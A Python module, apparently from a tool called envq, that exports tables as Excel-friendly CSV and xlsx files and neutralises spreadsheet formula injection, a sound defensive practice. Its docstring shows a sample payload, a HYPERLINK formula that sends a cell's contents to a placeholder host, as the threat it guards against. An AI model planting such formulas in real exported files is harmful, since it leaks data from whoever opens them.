"""Every table envq hands to people: CSV and xlsx, written one way (the one home of both).

People open envq's tables in Excel (or WPS) on Chinese Windows, and programs read them too:

- **CSV files are UTF-8 with a byte-order mark** (``utf-8-sig``). Without it Excel on a Chinese
  system decodes the file as GBK and shows 湖南省 as garbage. Column names stay as the program
  names them (``good_day_ratio``), so scripts keep working; pandas, Python's ``utf-8-sig`` and R
  read the mark transparently. A CSV written to standard output gets the mark only when standard
  output is a regular file (``envq ... > out.csv``), never on a terminal or in a pipe.
- **Formula injection is neutralised** in every CSV cell, xlsx cell and column name
  (:func:`neutralise`). A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or
  ``@`` (and, in CSV, one that starts with a tab or a carriage return) as a formula: a station
  or section named ``=HYPERLINK("http://x/?"&A1,"点击")`` would run when a bureau opens the file.
  Rule (OWASP "CSV injection"): a *text* value starting with one of those characters gets a
  leading apostrophe ``'``, which the spreadsheet shows as text (a name ``+1`` stays the text
  "+1", not the number 1). Numbers are numbers, not formulas: numeric values (a change of -6.9,
  in a numeric column or a mixed one) are never touched, so a negative number stays a number.
  In xlsx every text cell is also stored as a string, never as a formula.
- Files are written to a temporary file beside the target and moved into place, so a reader
  never sees half a table; an error names the path.

:func:`write_csv` writes one table, :func:`write_xlsx` a workbook of :class:`Sheet` s (Chinese
headers, numbers as numbers with their published decimals as display format, frozen header row,
readable widths).
"""

from __future__ import annotations

import dataclasses
import io
import math
import os
import re
import stat
import sys
from collections.abc import Mapping, Sequence
from pathlib import Path

import numpy as np
import pandas as pd

__all__ = ["FORMULA_TRIGGERS", "neutralise", "neutralise_frame", "write_csv", "csv_bytes", "Sheet",
           "write_xlsx", "read_xlsx_sheet"]

#: First characters that make a spreadsheet read a cell as a formula (or, tab and CR, that let a
#: formula through in some CSV importers): OWASP "CSV Injection".
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

def neutralise(value):
    """*value* made safe for a spreadsheet cell: text starting with a formula trigger gets ``'``.

    Non-text values (numbers, dates, None) are returned unchanged: a number is never a formula.

    Examples
    --------
    >>> neutralise('=HYPERLINK("http://x","y")')
    '\\'=HYPERLINK("http://x","y")'
    >>> [neutralise(v) for v in ("+1", "-2+3", "@SUM(A1)", "长沙市", "a-b", -2.0, -6.9, None)]
    ["'+1", "'-2+3", "'@SUM(A1)", '长沙市', 'a-b', -2.0, -6.9, None]
    """
    if isinstance(value, str) and value[:1] in FORMULA_TRIGGERS:
        return "'" + value
    return value


def _text_columns(df: pd.DataFrame) -> list:
    return [c for c in df.columns
            if pd.api.types.is_object_dtype(df[c]) or pd.api.types.is_string_dtype(df[c])
            or isinstance(df[c].dtype, pd.CategoricalDtype)]


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of *df* with :func:`neutralise` applied to every text cell, column name and index
    label; numeric, boolean and date columns untouched. Vectorised per column.

    >>> neutralise_frame(pd.DataFrame({"name": ["=1+1", "长沙市"], "v": [-2, 3]})).to_dict("list")
    {'name': ["'=1+1", '长沙市'], 'v': [-2, 3]}
    """
    out = df.copy()
    for c in _text_columns(out):
        col = out[c]
        if isinstance(col.dtype, pd.CategoricalDtype):
            col = col.astype(object)
        obj = col.astype(object)
        is_text = obj.map(type).isin((str, np.str_)).to_numpy(bool)  # numbers in a mixed column stay
        risky = is_text & obj.astype("string").str[:1].isin(FORMULA_TRIGGERS).fillna(False).to_numpy(bool)
        if risky.any():
            obj = obj.copy()
            obj[risky] = "'" + obj[risky].astype(str)
            col = obj
        out[c] = col
    out.columns = [neutralise(c) for c in out.columns]
    if out.index.dtype == object:
        out.index = out.index.map(neutralise)
    return out


def _atomic_write(path: Path, data: bytes) -> Path:
    path = Path(path)
    tmp = path.with_name(f".{path.name}.tmp{os.getpid()}")
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        with open(tmp, "wb") as fh:
            fh.write(data)
        os.replace(tmp, path)
    except OSError as exc:
        try:
            tmp.unlink()
        except OSError:
            pass
        raise OSError(exc.errno, f"cannot write {path}: {exc.strerror or exc}") from None
    return path


def csv_bytes(df: pd.DataFrame, *, index: bool = False, bom: bool = True, **kwargs) -> bytes:
    """*df* as CSV bytes, neutralised (:func:`neutralise_frame`), UTF-8 with BOM unless ``bom=False``.

    >>> csv_bytes(pd.DataFrame({"城市": ["长沙市"], "v": [1.5]}))[:3]
    b'\\xef\\xbb\\xbf'
    """
    text = neutralise_frame(df).to_csv(index=index, lineterminator="\n", **kwargs)
    return text.encode("utf-8-sig" if bom else "utf-8")


def _stdout_is_file() -> bool:
    try:
        return stat.S_ISREG(os.fstat(sys.stdout.fileno()).st_mode)
    except (OSError, ValueError, AttributeError, io.UnsupportedOperation):
        return False


def write_csv(df: pd.DataFrame, path=None, *, index: bool = False, **kwargs) -> Path | None:
    """Write *df* as a CSV that Excel on Chinese Windows opens (UTF-8 with BOM), formulas neutralised.

    Parameters
    ----------
    df : pandas.DataFrame
    path : str, os.PathLike, "-" or None
        The file (written atomically; its folder is created). ``None`` or ``"-"``: standard
        output, with the BOM only when standard output is a regular file (a redirect).
    index : bool
        Write the index as the first column(s).
    **kwargs
        Passed to :meth:`pandas.DataFrame.to_csv` (e.g. ``float_format``).

    Returns
    -------
    pathlib.Path or None
        The path written (None for standard output).

    Raises
    ------
    OSError
        Naming the path (disk full, read-only folder); the temporary file is removed.
    """
    if path is None or str(path) == "-":
        data = csv_bytes(df, index=index, bom=_stdout_is_file(), **kwargs)
        sys.stdout.flush()
        buf = getattr(sys.stdout, "buffer", None)
        if buf is not None:
            buf.write(data)
            buf.flush()
        else:  # a text stream (e.g. pytest's capture)
            sys.stdout.write(data.decode("utf-8-sig"))
        return None
    return _atomic_write(Path(path), csv_bytes(df, index=index, **kwargs))


# --------------------------------------------------------------------------------------------
# xlsx


@dataclasses.dataclass
class Sheet:
    """One sheet of a workbook: a table with its display names and number formats.

    Parameters
    ----------
    name : str
        Sheet name (Excel allows 31 characters and none of ``[]:*?/\\``; longer names are cut,
        forbidden characters replaced).
    table : pandas.DataFrame
        The values; the column names are the program names.
    headers : mapping, optional
        Program name -> header shown (Chinese first, e.g. ``"优良天数比例(%)"``); columns not
        named keep their program name.
    decimals : mapping, optional
        Program name -> decimals shown (the published precision): the cell holds the number, the
        display format ``0.0`` shows it as published. Integer columns default to ``0``.
    title : str, optional
        A line above the header (the table's title); the header row is then row 2.
    notes : sequence of str
        Lines below the table (sources, what an empty cell means).
    """

    name: str
    table: pd.DataFrame
    headers: Mapping[str, str] = dataclasses.field(default_factory=dict)
    decimals: Mapping[str, int] = dataclasses.field(default_factory=dict)
    title: str = ""
    notes: Sequence[str] = ()


_SHEET_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


def _sheet_name(name: str, taken: set[str]) -> str:
    base = _SHEET_FORBIDDEN.sub("_", str(name)).strip("'")[:31] or "Sheet"
    out, k = base, 2
    while out.lower() in taken:
        suffix = f" ({k})"
        out, k = base[: 31 - len(suffix)] + suffix, k + 1
    taken.add(out.lower())
    return out


def _display_width(text: str) -> float:
    """Column width in Excel units: CJK characters take two."""
    return sum(2.0 if ord(ch) > 0x2E80 else 1.0 for ch in text)


def _cell_value(v):
    """A Python value openpyxl stores as a number, a boolean, a date or a string (never a formula)."""
    if v is None or v is pd.NA or v is pd.NaT:
        return None
    if isinstance(v, (float, np.floating)):
        return None if math.isnan(v) else float(v)
    if isinstance(v, (bool, np.bool_)):
        return bool(v)
    if isinstance(v, (int, np.integer)):
        return int(v)
    if isinstance(v, pd.Timestamp):
        return v.to_pydatetime()
    return neutralise(str(v))


def write_xlsx(sheets: Sequence[Sheet], path) -> Path:
    """Write *sheets* as one xlsx workbook (openpyxl), atomically.

    Each sheet: an optional title row, the header row (the :attr:`Sheet.headers` names, bold,
    frozen so it stays visible when scrolling, with an auto-filter), one row per table row with
    numbers stored as numbers and shown with their :attr:`Sheet.decimals`, text stored as text
    (neutralised, :func:`neutralise`), empty cells for missing values, column widths fitted to
    the longest text (CJK counted double, capped at 60), and the notes below.

    Returns the path written; an OSError names it.
    """
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    wb.remove(wb.active)
    taken: set[str] = set()
    bold = Font(bold=True)
    fill = PatternFill("solid", fgColor="E8EEF4")
    for sh in sheets:
        ws = wb.create_sheet(_sheet_name(sh.name, taken))
        df = sh.table
        cols = list(df.columns)
        row0 = 1
        if sh.title:
            ws.cell(row=1, column=1, value=neutralise(sh.title)).font = Font(bold=True, size=12)
            row0 = 2
        widths = []
        for j, c in enumerate(cols, start=1):
            head = neutralise(str(sh.headers.get(c, c)))
            cell = ws.cell(row=row0, column=j, value=head)
            cell.data_type = "s"
            cell.font, cell.fill = bold, fill
            cell.alignment = Alignment(wrap_text=True, vertical="center")
            widths.append(min(_display_width(head), 24.0))
        formats = {}
        for c in cols:
            d = sh.decimals.get(c)
            if d is None and pd.api.types.is_integer_dtype(df[c]) and not pd.api.types.is_bool_dtype(df[c]):
                d = 0
            if d is not None:
                formats[c] = "0" if d == 0 else "0." + "0" * int(d)
        values = df.to_numpy(dtype=object)
        for i, row in enumerate(values, start=row0 + 1):
            for j, (c, v) in enumerate(zip(cols, row), start=1):
                x = _cell_value(v)
                cell = ws.cell(row=i, column=j, value=x)
                if isinstance(x, str):
                    cell.data_type = "s"  # text, never a formula
                    widths[j - 1] = max(widths[j - 1], _display_width(x))
                elif x is not None and not isinstance(x, bool) and c in formats:
                    cell.number_format = formats[c]
                    widths[j - 1] = max(widths[j - 1], len(f"{x:.{sh.decimals.get(c, 0) or 0}f}"))
                elif x is not None:
                    widths[j - 1] = max(widths[j - 1], len(str(x)))
        for j, w in enumerate(widths, start=1):
            ws.column_dimensions[get_column_letter(j)].width = min(max(w + 2, 6), 60)
        ws.freeze_panes = ws.cell(row=row0 + 1, column=1)
        if cols and len(df):
            ws.auto_filter.ref = f"A{row0}:{get_column_letter(len(cols))}{row0 + len(df)}"
        for k, note in enumerate(sh.notes):
            cell = ws.cell(row=row0 + len(df) + 2 + k, column=1, value=neutralise(str(note)))
            cell.data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    return _atomic_write(Path(path), buf.getvalue())


def read_xlsx_sheet(path, name: str, *, header_row: int | None = None) -> pd.DataFrame:
    """One sheet written by :func:`write_xlsx` back as a DataFrame (header row as columns, the
    notes below the table left out): for checks and tests.

    *header_row* (1-based) defaults to the first row whose cells are all filled.
    """
    from openpyxl import load_workbook

    wb = load_workbook(path, read_only=True, data_only=False)
    try:
        rows = [list(r) for r in wb[name].iter_rows(values_only=True)]
    finally:
        wb.close()
    if header_row is None:
        header_row = next((k + 1 for k, r in enumerate(rows) if r and all(v is not None for v in r)), 1)
    head = rows[header_row - 1]
    body = []
    for r in rows[header_row:]:
        if all(v is None for v in r):
            break
        body.append(r)
    return pd.DataFrame(body, columns=head)
